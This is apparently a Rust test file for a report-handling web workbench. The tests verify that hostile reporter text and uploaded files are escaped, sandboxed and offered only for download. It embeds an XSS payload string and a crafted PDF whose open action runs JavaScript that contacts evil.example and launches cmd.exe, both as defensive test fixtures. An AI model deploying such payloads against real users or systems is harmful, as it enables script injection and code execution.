//! Untrusted texts and files of reporters have no effect on the pages.

use reqwest::{Method, StatusCode};

use crate::common::browser::{TestPage, WorkbenchBrowser};

#[tokio::test]
async fn untrusted_text_stays_text() {
    let screen = WorkbenchBrowser::open("lead").await;
    let hostile =
        "</p><script>alert(1)</script><img src=x onerror=alert(2)>\u{202e}\u{1b}[2J & \"'";
    let mut reporter =
        screen.environment.handler.file_report(&screen.environment.installation, &[], hostile);
    screen.environment.handler.follow_up(&screen.environment.installation, &mut reporter, hostile);
    screen.unlock().await;
    let case = screen.open_case(&reporter).await;
    for path in ["", "/messages", "/notes", "/timeline", "/file/1"] {
        let answer = screen.request(&Method::GET, &format!("{case}{path}")).send().await.unwrap();
        let policy = answer.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
        assert_eq!(answer.headers()["cache-control"], "no-store");
        let page = TestPage::from_response(answer).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert_eq!(page.texts("script").concat(), "", "{path}: no script of the reporter");
        assert_eq!(page.texts("[onerror]").len(), 0, "{path}");
        assert!(!page.text.contains('\u{202e}') && !page.text.contains('\u{1b}'), "{path}");
    }
    let story = screen.get(&case).await.texts(".text").concat();
    assert!(story.contains("<script>alert(1)</script>"), "shown as it was written: {story}");
    let saved = screen.request(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
    assert_eq!(saved.headers()["content-disposition"], "attachment; filename*=UTF-8''photo.jpg");
    assert_eq!(saved.headers()["content-type"], "application/octet-stream");
    assert!(saved.headers()["content-security-policy"].to_str().unwrap().contains("sandbox"));
    assert_eq!(saved.bytes().await.unwrap(), &b"a photograph of a receipt book"[..]);
    let words = "<script>alert(1)</script>";
    let found = screen.post("/search", &[("words", words)]).await;
    assert_eq!(found.texts("script").concat(), "");
}

/// A document that runs a script and sends a request as soon as a viewer opens it. Its name is that
/// of a picture.
const HOSTILE_PDF: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj\n\
    2 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";

#[tokio::test]
async fn a_hostile_document_is_saved_with_a_warning_and_never_shown() {
    let screen = WorkbenchBrowser::open("lead").await;
    screen.unlock().await;
    for (name, declared_type, tried) in [
        ("invoice.pdf", "application/pdf", false),
        ("invoice.png", "image/png", true),
        ("page.html", "text/html", false),
        ("drawing.svg", "image/svg+xml", true),
        ("memo.mp3", "audio/mpeg", true),
    ] {
        let environment = &screen.environment;
        let reporter = environment.handler.file_report_with(
            &environment.installation,
            &[],
            "See the file.",
            (name, declared_type, HOSTILE_PDF),
        );
        let case = screen.open_case(&reporter).await;
        let page = screen.get(&format!("{case}/file/1")).await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.text.contains("Never by a double click"), "{name}: the warning");
        // The page offers a file that is not named as a picture only for saving. The sandbox tries
        // to decode a file that is named as a picture or a recording, and rejects this one.
        let shown = page.texts("img, embed, object, iframe, video, audio").len();
        assert_eq!(shown, usize::from(tried), "{name}");
        let picture = screen.get(&format!("{case}/picture/1")).await;
        assert_eq!(picture.status, StatusCode::NOT_FOUND, "{name}");
        assert!(!picture.text.contains("evil.example"), "{name}");
        let recording = screen.get(&format!("{case}/recording/1")).await;
        assert_eq!(recording.status, StatusCode::NOT_FOUND, "{name}");
        assert!(!recording.text.contains("evil.example"), "{name}");
        // No page displays the document in the browser. The member can only save it.
        let saved = screen.request(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
        let headers = saved.headers().clone();
        assert_eq!(headers["content-type"], "application/octet-stream");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        assert!(headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
        assert!(headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
        assert_eq!(saved.bytes().await.unwrap(), HOSTILE_PDF, "{name}: as it came");
    }
}

#[tokio::test]
async fn a_recording_is_played_from_its_samples_and_its_transcript_is_a_note() {
    let screen = WorkbenchBrowser::open("lead").await;
    screen.unlock().await;
    let environment = &screen.environment;
    let reporter = environment.handler.file_report_with(
        &environment.installation,
        &[],
        "",
        ("recording.wav", "audio/wav", &crate::recordings::browser_recording()),
    );
    let case = screen.open_case(&reporter).await;
    let page = screen.get(&format!("{case}/file/1")).await;
    assert_eq!(page.texts("audio[preload=none]").len(), 1);
    for (path, plays) in [("/file/1", true), ("", false)] {
        let answer = screen.request(&Method::GET, &format!("{case}{path}")).send().await.unwrap();
        let policy = answer.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert_eq!(policy.ends_with("; media-src 'self'"), plays, "{policy}");
        assert_eq!(policy.contains("media-src"), plays, "{policy}");
    }
    let sound = screen.request(&Method::GET, &format!("{case}/recording/1")).send().await.unwrap();
    assert_eq!(sound.status(), StatusCode::OK);
    assert_eq!(sound.headers()["content-type"], "audio/wav");
    let sound = sound.bytes().await.unwrap();
    assert_eq!((&sound[..4], sound.len()), (&b"RIFF"[..], 44 + 2 * 1010));
    let note = [("kind", "transcript"), ("text", "Recording 1: they took the money at the gate.")];
    screen.post(&format!("{case}/notes"), &note).await;
    let notes = screen.get(&format!("{case}/notes")).await;
    assert!(notes.text.contains("they took the money at the gate"));
    assert_eq!(notes.texts(".shelf.transcript h2"), ["Transcripts"]);
}
